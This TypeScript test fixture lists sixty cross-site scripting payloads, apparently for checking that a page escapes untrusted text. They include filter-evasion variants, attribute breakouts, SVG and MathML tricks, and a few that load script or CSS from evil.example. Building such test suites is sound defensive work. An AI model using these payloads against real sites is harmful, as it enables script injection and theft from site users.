// Sixty texts that become programs where a page forgets to say that they are text.  @source OWASP XSS Filter Evasion, PortSwigger's
// XSS cheat sheet, HTML5 Security Cheatsheet; the last group is of our own places: JSON in a script, titles, SVG, links, tables.

const ZERO_WIDTH = "\u200b";
const OVERRIDE = "\u202e";
const LINE_SEPARATOR = "\u2028";
const PARAGRAPH_SEPARATOR = "\u2029";

export const PAYLOADS: readonly string[] = [
  // Elements.
  "<script>alert(1)</script>",
  "<ScRiPt>alert(2)</sCrIpT>",
  "<script/src=data:text/javascript,alert(3)></script>",
  "<script src=//evil.example/x.js></script>",
  "<script>alert(5)//",
  '"><script>alert(6)</script>',
  "'><script>alert(7)</script>",
  "`><script>alert(8)</script>",
  "</p></td></tr></table><script>alert(9)</script>",
  "<scr<script>ipt>alert(10)</scr</script>ipt>",
  // Elements that run by what happens to them.
  "<img src=x onerror=alert(11)>",
  '<img src="x" onerror="alert(12)">',
  "<img/src/onerror=alert(13)>",
  "<img src=x:x onerror=alert`14`>",
  "<image src=x onerror=alert(15)>",
  "<body onload=alert(16)>",
  "<details open ontoggle=alert(17)><summary>x</summary></details>",
  "<input autofocus onfocus=alert(18)>",
  "<select autofocus onfocus=alert(19)><option>x</select>",
  "<video><source onerror=alert(20)></video>",
  "<audio src=x onerror=alert(21)>",
  "<marquee onstart=alert(22)>x</marquee>",
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(23)>x</b>",
  // Foreign content.
  "<svg onload=alert(24)>",
  "<svg><script>alert(25)</script></svg>",
  "<svg><animate onbegin=alert(26) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(27)"><text x=20 y=20>x</text></a></svg>',
  "<svg><foreignObject><iframe src=javascript:alert(28)></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(29)></style></mglyph></table></mtext></math>",
  '<math><a xlink:href="javascript:alert(30)">x</a></math>',
  "<template><script>alert(31)</script></template><template shadowrootmode=open><img src=x onerror=alert(31)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(32)>">',
  // Frames, forms and what sends a reader elsewhere.
  '<iframe srcdoc="<script>parent.alert(33)</script>"></iframe>',
  "<iframe src=javascript:alert(34)></iframe>",
  "<object data=javascript:alert(35)></object><embed src=javascript:alert(35)>",
  "<form action=javascript:alert(36)><input type=submit id=attributes name=action></form>",
  "<button form=x formaction=javascript:alert(37)>x</button>",
  "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(38)</script>'>",
  "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
  // Out of an attribute.
  '" onmouseover="alert(40)" autofocus onfocus="alert(40)" x="',
  "' onmouseover='alert(41)' autofocus onfocus='alert(41)' x='",
  "` onmouseover=`alert(42)` autofocus onfocus=alert(42) x=`",
  " autofocus onfocus=alert(43) tabindex=1 ",
  '"/onfocus=alert(44)/autofocus/"',
  // Addresses.
  "javascript:alert(45)",
  "JaVaScRiPt:alert(46)",
  " \u0001javascript:alert(47)",
  "java\tscript:alert(48)",
  "data:text/html,<script>alert(49)</script>",
  "vbscript:msgbox(50)",
  // Comments, sections, what text ends early.
  "--><script>alert(51)</script><!--",
  "<!--[if gte IE 4]><script>alert(52)</script><![endif]-->",
  "<![CDATA[><script>alert(53)</script>]]>",
  "</title></textarea></style></noscript></template></select><script>alert(54)</script>",
  // Characters that are read as others.
  "&#106;avascript:alert(55) &lt;script&gt;alert(55)&lt;/script&gt; &NewLine;",
  `＜script＞alert(56)＜/script＞ ${ZERO_WIDTH}<img src=x onerror=alert(56)>${OVERRIDE}`,
  // Out of a script that holds data.
  `"}]}</script><script>alert(57)</script>${LINE_SEPARATOR}`,
  `\\u003c/script\\u003e\\";alert(58)//${PARAGRAPH_SEPARATOR}<!--<script>`,
  // CSS, and everything at once.
  "</style><style>*{background:url(//evil.example/x)}</style><b style=\"background:url('javascript:alert(59)')\">",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(60) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(60)//>\\x3e",
];

/** As many of the same shape, and quite harmless. */
export const HARMLESS: readonly string[] = PAYLOADS.map((_, i) => `Plain words ${i + 1}`);
